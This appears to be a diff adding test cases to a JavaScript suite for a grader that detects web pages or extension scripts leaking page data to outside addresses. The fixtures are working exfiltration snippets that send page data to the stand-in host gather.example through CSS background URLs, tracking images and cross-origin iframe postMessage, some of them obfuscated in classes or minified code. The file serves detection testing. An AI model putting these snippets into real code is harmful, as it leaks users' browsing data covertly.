@@ -43,4 +43,50 @@ describe('data that leaves at an address which is written elsewhere', () => {
     // Of the page that it is in.
     expect(await graded({ content: style('', 'location.pathname') })).toMatch(/^A/);
   });
+
+  it.each([
+    [
+      'a style that a private field holds',
+      `class Sheet { #node = null; #rules = []; rule(at, of) { this.#rules.push(at + ' { ' + Object.entries(of).map(([k, v]) => k + ': ' + v).join('; ') + ' }'); return this; }
+       put() { this.#node = document.createElement('style'); this.#node.textContent = this.#rules.join(''); document.head.append(this.#node); } drop() { this.#node = null; } }
+       const BASE = 'https://gather.example/t'; new Sheet().rule('html', { 'background-image': 'url("' + BASE + '/' + btoa(DATA) + '.png")' }).put();`,
+    ],
+    [
+      'a style of a class as compilers leave it',
+      `var S = function () { function t() { this.n = null, this.r = []; } return t.prototype.add = function (t, e) { return this.r.push(t + '{' + e + '}'), this; }, t.prototype.put = function () { this.n = document.createElement('style'), this.n.textContent = this.r.join(''), document.head.appendChild(this.n); }, t; }();
+       (new S).add('html', 'background:url(https://gather.example/' + btoa(DATA) + '.png)').put();`,
+    ],
+    [
+      'a picture that a field holds',
+      `class Dot { constructor() { this.el = null; } show() { this.el = document.createElement('img'); this.el.src = 'https://gather.example/d.gif?p=' + encodeURIComponent(DATA); } hide() { this.el = null; } } new Dot().show();`,
+    ],
+    [
+      'a frame whose message is for one site',
+      `const ORIGIN = 'https://gather.example'; const open = (src) => new Promise((ok) => { const f = document.createElement('iframe'); f.onload = () => ok(f); f.src = src; document.body.append(f); });
+       const ready = open(ORIGIN + '/f'); setInterval(async () => (await ready).contentWindow.postMessage({ at: DATA }, ORIGIN), 1000);`,
+    ],
+    [
+      'a frame whose site a class is told',
+      `class Box { constructor(origin) { this.origin = origin; this.ready = new Promise((ok) => { const f = document.createElement('iframe'); f.src = origin + '/f'; f.onload = () => ok(f.contentWindow); document.body.append(f); }); } async tell(at) { (await this.ready).postMessage({ at }, this.origin); } }
+       new Box('https://gather.example').tell(DATA);`,
+    ],
+    [
+      'a frame that a field holds',
+      `class Box { constructor() { const f = document.createElement('iframe'); f.src = 'https://gather.example/f'; document.body.append(f); this.f = f; } tell(at) { this.f.contentWindow.postMessage(at, '*'); } }
+       new Box().tell(DATA);`,
+    ],
+  ])('is told of a page: %s', async (_, content) => {
+    expect(await graded({ content: content.replace('DATA', 'location.pathname') })).toMatch(/[CDF]/);
+    expect(await graded({ content: content.replace('DATA', '"1"') })).toMatch(/^A/);
+  });
+
+  it('is not told where an address in a style is whole, or a message is for the page or a frame of its own', async () => {
+    for (const content of [
+      `class Sheet { #s = null; #r = []; rule(a, b) { this.#r.push(a + ' { ' + b + ' }'); return this; } put() { this.#s = document.createElement('style'); this.#s.textContent = this.#r.join(''); document.head.append(this.#s); } }
+       new Sheet().rule('html', 'background: url(https://gather.example/grain.png)').rule('[data-at="' + location.pathname + '"]', 'color: red').put();`,
+      `window.postMessage({ at: location.pathname }, location.origin);`,
+      `const f = document.createElement('iframe'); f.src = chrome.runtime.getURL('f.html'); document.body.append(f); f.onload = () => f.contentWindow.postMessage({ at: location.pathname }, chrome.runtime.getURL(''));`,
+    ])
+      expect(await graded({ content })).toMatch(/^A/);
+  });
 });
